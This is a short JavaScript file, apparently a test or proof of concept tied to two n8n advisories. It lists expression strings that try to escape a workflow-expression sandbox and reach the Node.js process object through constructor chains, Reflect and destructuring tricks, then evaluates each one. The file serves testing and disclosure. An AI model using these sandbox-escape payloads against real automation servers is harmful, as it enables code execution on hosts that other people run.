// The expressions of a workflow: this.process.mainModule, arrow functions and template literals.
// advisory: CVE-2025-68613 (n8n), CVE-2026-25049 (n8n)
const expressions = [
  '(function () { return this.process })()', '(() => this)()', '(function () { return this })().process', '[].constructor.constructor("return process")()',
  '`${(() => { throw new Error(process.mainModule) })()}`', '({ a: { b = process } = {} }) => b', '(({ constructor: { constructor: f } }) => f("return process"))(() => {})()',
  '({ ["const" + "ructor"]: c } = {}) => c', 'Reflect.get(Function, "constructor")("return process")()', 'Object.getOwnPropertyDescriptor(Object, "constructor")',
];
for (const text of expressions) { try { const got = (0, eval)(`(${text})`); reach(got, typeof got === 'function' ? got({}) : got); } catch (error) { console.log(error.name); } }
reach(process, process.mainModule);
